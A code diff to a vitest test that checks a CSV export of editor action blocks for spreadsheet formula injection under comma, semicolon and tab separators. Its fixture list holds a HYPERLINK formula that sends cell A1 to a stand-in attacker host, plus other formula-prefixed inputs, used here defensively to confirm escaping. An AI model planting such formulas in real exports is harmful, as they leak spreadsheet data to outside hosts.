@@ -3,10 +3,10 @@
  * splits at (issue 12 item 8: `Overleg;=1+1` reached Dutch Excel, which splits at `;`, as a
  * formula). The block texts are written over a real socket, as any member's client could.
  */
-import * as Y from 'yjs';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { DOCUMENT_FRAGMENT } from '../../shared/editor/schema';
 import { buildWorkshop, type Workshop } from '../helpers/apiClient';
+import { blockElement } from '../helpers/documents';
 import { connectProvider, eventually, waitForSync } from '../helpers/providers';
 import { readCells } from '../helpers/spreadsheet';
 import { startTestServer, type TestServer } from '../helpers/startTestServer';
@@ -21,14 +21,7 @@ afterAll(async () => server.stop());
 
 const texts = ['Overleg;=1+1', '=HYPERLINK("https://aanvaller.example/?d="&A1;"klik")', 'Huur,@SUM(1+1)', 'Budget\t-2+3', '+31 6 12345678'];
 
-function action(id: string, text: string): Y.XmlElement {
-  const element = new Y.XmlElement('action');
-  for (const [key, value] of Object.entries({ id, status: 'open', funding: 'unknown', due: '2027-05-01' })) element.setAttribute(key, value);
-  const paragraph = new Y.XmlElement('paragraph');
-  paragraph.insert(0, [new Y.XmlText(text)]);
-  element.insert(0, [paragraph]);
-  return element;
-}
+const action = (id: string, text: string) => blockElement('action', { id, status: 'open', funding: 'unknown', due: '2027-05-01' }, text);
 
 test('no cell of the actions CSV starts a formula when read with , ; or tab as separator; every text comes back, with an apostrophe before each formula', async () => {
   const { owner, workspaceId, documentId } = workshop;
